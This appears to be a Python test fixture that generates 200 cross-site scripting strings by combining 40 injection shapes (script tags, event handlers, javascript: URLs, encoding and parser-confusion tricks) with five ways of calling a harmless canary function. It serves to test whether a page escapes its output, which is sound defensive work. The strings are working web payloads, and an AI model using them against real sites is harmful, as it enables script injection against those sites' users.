"""Strings that try to run when a page shows them; each calls ``owned()`` where it succeeds."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALLS = ("owned()", "top.owned()", "window['owned']()", "owned`1`", "eval('owned()')")
SHAPES = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "</title><script>{0}</script>",
    "</style><script>{0}</script>",
    "--><script>{0}</script>",
    "<!--</script><script>{0}",
    "]]><script>{0}</script>",
    "<img src=x onerror={0}>",
    '"><img src=x onerror={0}>',
    "' onmouseover='{0}' x='",
    '" autofocus onfocus="{0}" x="',
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}>",
    "<a href='javascript:{0}'>x</a>",
    "javascript:{0}",
    "java\tscript:{0}",
    "data:text/html,<script>opener.{0}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href='javascript:{0}//'>",
    "<link rel=stylesheet href='data:text/css,*{{}}'><script>{0}</script>",
    "<object data='javascript:{0}'>",
    "<embed src='javascript:{0}'>",
    "{{{{ {0} }}}}",
    "${{{0}}}",
    "{{% raw %}}<script>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "\u2028<script>{0}</script>",
    "\x00<scr\x00ipt>{0}</scr\x00ipt>",
    "<template><script>{0}</script></template>",
    "</audio></narrator-player><script>{0}</script>",
    "</dl><script>{0}</script><dl>",
    "<narrator-player src='javascript:{0}' label='<script>{0}</script>'>",
    '");{0};//',
)


def strings() -> Iterator[str]:
    """Two hundred of them."""
    for shape, call in product(SHAPES, CALLS):
        yield shape.format(call)
